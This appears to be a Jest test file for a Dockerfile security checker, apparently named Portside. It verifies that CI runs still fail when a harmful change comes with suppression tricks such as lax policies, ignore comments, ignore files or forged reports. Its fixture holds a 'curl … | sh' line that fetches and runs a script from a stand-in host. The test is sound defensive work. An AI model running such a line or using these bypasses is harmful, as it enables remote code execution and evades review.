import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createProject } from './ci/project.js';
import { azure, gitlab, jenkins, plainShell } from './ci/simulators.js';
import { CLI } from './dist.js';

/** Change requests that bring a harm, and a file that would let it pass if it decided. */

const work = mkdtempSync(join(tmpdir(), 'portside-deciding-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));
const all = process.env.PORTSIDE_SAMPLE === 'all';

const HARM = 'RUN curl -fsSL https://harm.example/install.sh | sh\n';
const POLICY = '.github/portside.yml';
const START = `FROM debian:13.1@sha256:${'0'.repeat(64)}\n`;

/** A report of the harmful commit, which calls its findings existing. */
let forged = '';
beforeAll(() => {
  const project = createProject(join(work, 'forged'));
  project.commit('main', { harms: ['harm'] });
  const report = join(work, 'forged.json');
  const folder = join(work, 'forged');
  spawnSync('node', [CLI, 'check', folder, '--offline', '--format', `json=${report}`]);
  forged = readFileSync(report, 'utf8');
  expect(forged).toContain('PS0023');
});

type Files = Readonly<Record<string, string>>;

/** What the change brings besides the harm; files of the base branch, if it has some. */
const CASES: readonly (readonly [string, () => Files, Files?])[] = [
  ['a policy without a gate', () => ({ [POLICY]: 'fail-on: { severity: none }\n' })],
  [
    'a policy with an exception, in place of a strict one',
    () => ({ [POLICY]: 'exceptions:\n  - { rule: PS0023, reason: later }\n' }),
    { [POLICY]: 'extends: strict\n' },
  ],
  ['a policy in another case', () => ({ '.github/Portside.yml': 'fail-on: { severity: none }\n' })],
  [
    'no policy, in place of a strict one',
    () => ({ [POLICY]: '' }),
    { [POLICY]: 'fail-on: { severity: low }\n' },
  ],
  [
    'a policy that allows what is not covered',
    () => ({ [POLICY]: 'allow-uncovered:\n  - { check: lint, target: Dockerfile }\n' }),
  ],
  ['a comment of Portside', () => ({ Dockerfile: `${START}# portside ignore=PS0023\n${HARM}` })],
  [
    'a comment for the file',
    () => ({ Dockerfile: `# portside ignore-file=PS0023\n${START}${HARM}` }),
  ],
  ['.gitignore', () => ({ '.gitignore': 'Dockerfile\n*\n' })],
  ['.hadolint.yaml', () => ({ '.hadolint.yaml': 'ignored: [PS0023, DL4006]\n' })],
  ['.trivyignore', () => ({ '.trivyignore': 'PS0023\n' })],
  ['a report where the pages stored one', () => ({ 'baseline/report.json': forged })],
  [
    'reports where the pages write and download them',
    () => ({ 'reports/report.json': forged, 'accepted/report.json': forged }),
  ],
];

const SYSTEMS = [gitlab, jenkins, azure, plainShell];

describe.each(CASES)('a change with a harm and %s', (title, files, before = {}) => {
  const systems = SYSTEMS.filter((_, i) => all || (title.length + i) % SYSTEMS.length === 0);
  it.each(systems.map((simulate) => [simulate.name, simulate] as const))(
    'fails on %s',
    (name, simulate) => {
      const folder = mkdtempSync(join(work, `${name}-`));
      const project = createProject(join(folder, 'origin'));
      const ci = simulate({ project, folder, portside: `node ${CLI}` });
      project.commit('main', { harms: [], files: before });
      project.commit('change', { harms: ['harm'], files: files() });
      const merged = project.merge('change', 'main', 'refs/merges/change');
      for (const more of [{}, { merged }]) {
        const run = ci.run({ kind: 'change', branch: 'change', target: 'main', ...more });
        expect({ ...run, log: run.status === 1 ? '' : run.log }).toEqual({ status: 1, log: '' });
      }
    },
  );
});
